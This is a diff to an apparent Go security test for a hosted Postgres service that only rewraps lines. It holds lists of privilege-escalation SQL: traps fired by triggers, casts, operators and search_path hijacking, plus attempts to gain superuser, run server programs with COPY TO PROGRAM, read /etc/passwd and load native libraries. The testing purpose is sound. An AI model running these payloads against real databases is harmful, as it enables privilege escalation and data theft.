@@ -19,7 +19,8 @@ BEGIN
 	BEGIN EXECUTE 'RESET ROLE'; ALTER ROLE neondb_owner SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
 	BEGIN COPY (SELECT 1) TO PROGRAM 'touch MARKER'; EXCEPTION WHEN OTHERS THEN NULL; END;
 END $f$;
-CREATE FUNCTION public.grab(anyelement) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.take(); RETURN true; END'`
+CREATE FUNCTION public.grab(anyelement) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.take();
+	RETURN true; END'`
 
 // laid are traps: what else runs when a branch is copied, emptied or managed.
 var laid = map[string]string{
@@ -37,12 +38,15 @@ var laid = map[string]string{
 	"definer":           `CREATE FUNCTION definer(x int) RETURNS boolean LANGUAGE sql IMMUTABLE SECURITY DEFINER AS 'SELECT public.grab(x)'; CREATE TABLE t10 (x int CHECK (definer(x))); INSERT INTO t10 VALUES (1)`,
 	"triggers": `CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN PERFORM public.grab(1); RETURN NEW; END $t$;
 		CREATE TABLE t11 (x int); CREATE TRIGGER a BEFORE INSERT OR DELETE ON t11 FOR EACH ROW EXECUTE FUNCTION spring();
-		CREATE TRIGGER b BEFORE TRUNCATE ON t11 EXECUTE FUNCTION spring(); ALTER TABLE t11 ENABLE ALWAYS TRIGGER a; ALTER TABLE t11 ENABLE ALWAYS TRIGGER b;
+		CREATE TRIGGER b BEFORE TRUNCATE ON t11 EXECUTE FUNCTION spring(); ALTER TABLE t11 ENABLE ALWAYS TRIGGER a;
+			ALTER TABLE t11 ENABLE ALWAYS TRIGGER b;
 		INSERT INTO t11 VALUES (1)`,
 	"cast": `CREATE TYPE pair AS (x int); CREATE FUNCTION cast_pair(pair) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT public.grab(1)';
-		CREATE CAST (pair AS boolean) WITH FUNCTION cast_pair(pair) AS IMPLICIT; CREATE TABLE t12 (x pair CHECK (x::boolean)); INSERT INTO t12 VALUES (ROW(1))`,
+		CREATE CAST (pair AS boolean) WITH FUNCTION cast_pair(pair) AS IMPLICIT;
+			CREATE TABLE t12 (x pair CHECK (x::boolean)); INSERT INTO t12 VALUES (ROW(1))`,
 	"operator": `CREATE FUNCTION grab2(int, int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT public.grab($1)';
-		CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = grab2); CREATE TABLE t13 (x int CHECK (x === 1)); INSERT INTO t13 VALUES (1)`,
+		CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = grab2); CREATE TABLE t13 (x int CHECK (x === 1));
+			INSERT INTO t13 VALUES (1)`,
 	"search path": `CREATE SCHEMA evil; CREATE FUNCTION evil.same(name, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(1)';
 		CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.same);
 		CREATE FUNCTION evil.same(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT public.grab(1)';
@@ -54,19 +58,28 @@ var laid = map[string]string{
 
 // tried are ways up that end where they begin.
 var tried = []string{
-	"ALTER ROLE neondb_owner SUPERUSER", "ALTER ROLE neondb_owner REPLICATION", "CREATE ROLE other SUPERUSER", "CREATE ROLE other REPLICATION",
-	"CREATE ROLE other IN ROLE pg_execute_server_program", "GRANT pg_write_server_files TO neondb_owner", "GRANT pg_read_server_files TO neondb_owner",
-	"ALTER ROLE pg_execute_server_program LOGIN", "ALTER ROLE cloud_admin PASSWORD 'x'", "ALTER ROLE cloud_admin SET search_path = evil", "DROP ROLE cloud_admin",
-	"SELECT pg_create_logical_replication_slot('s', '/lib/x')", "CREATE DATABASE other TABLESPACE pg_global", "ALTER DATABASE template1 OWNER TO neondb_owner",
+	"ALTER ROLE neondb_owner SUPERUSER", "ALTER ROLE neondb_owner REPLICATION", "CREATE ROLE other SUPERUSER",
+	"CREATE ROLE other REPLICATION",
+	"CREATE ROLE other IN ROLE pg_execute_server_program", "GRANT pg_write_server_files TO neondb_owner",
+	"GRANT pg_read_server_files TO neondb_owner",
+	"ALTER ROLE pg_execute_server_program LOGIN", "ALTER ROLE cloud_admin PASSWORD 'x'",
+	"ALTER ROLE cloud_admin SET search_path = evil", "DROP ROLE cloud_admin",
+	"SELECT pg_create_logical_replication_slot('s', '/lib/x')", "CREATE DATABASE other TABLESPACE pg_global",
+	"ALTER DATABASE template1 OWNER TO neondb_owner",
 	"GRANT cloud_admin TO neondb_owner", "GRANT pg_execute_server_program TO neondb_owner",
-	"SET ROLE cloud_admin", "SET SESSION AUTHORIZATION cloud_admin", "SET session_preload_libraries = 'x'", "SET session_replication_role = replica",
+	"SET ROLE cloud_admin", "SET SESSION AUTHORIZATION cloud_admin", "SET session_preload_libraries = 'x'",
+	"SET session_replication_role = replica",
 	"ALTER SYSTEM SET archive_command = 'touch MARKER'", "ALTER FUNCTION public.grab(anyelement) OWNER TO cloud_admin",
 	"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION spring()",
-	"CREATE EXTENSION dblink", "CREATE EXTENSION postgres_fdw", "CREATE EXTENSION file_fdw", "CREATE EXTENSION adminpack", "CREATE EXTENSION pageinspect",
+	"CREATE EXTENSION dblink", "CREATE EXTENSION postgres_fdw", "CREATE EXTENSION file_fdw", "CREATE EXTENSION adminpack",
+	"CREATE EXTENSION pageinspect",
 	"CREATE FOREIGN DATA WRAPPER w", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
-	"COPY (SELECT 1) TO PROGRAM 'touch MARKER'", "COPY t1 FROM PROGRAM 'touch MARKER'", "COPY t1 TO 'MARKER'", "COPY t1 FROM '/etc/passwd'",
-	"SELECT lo_import('/etc/passwd')", "SELECT lo_export(1, 'MARKER')", "SELECT pg_read_file('/etc/passwd')", "SELECT pg_ls_dir('.')",
-	"CREATE FUNCTION c() RETURNS int LANGUAGE c AS '/lib/x', 'y'", "CREATE FUNCTION i() RETURNS int LANGUAGE internal AS 'pg_backend_pid'",
+	"COPY (SELECT 1) TO PROGRAM 'touch MARKER'", "COPY t1 FROM PROGRAM 'touch MARKER'", "COPY t1 TO 'MARKER'",
+	"COPY t1 FROM '/etc/passwd'",
+	"SELECT lo_import('/etc/passwd')", "SELECT lo_export(1, 'MARKER')", "SELECT pg_read_file('/etc/passwd')",
+	"SELECT pg_ls_dir('.')",
+	"CREATE FUNCTION c() RETURNS int LANGUAGE c AS '/lib/x', 'y'",
+	"CREATE FUNCTION i() RETURNS int LANGUAGE internal AS 'pg_backend_pid'",
 	"LOAD '/tmp/x.so'", "CREATE LANGUAGE plpython3u", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
 	"UPDATE pg_authid SET rolsuper = true", "SELECT pg_reload_conf()", "CREATE TABLESPACE s LOCATION '/tmp'",
 }
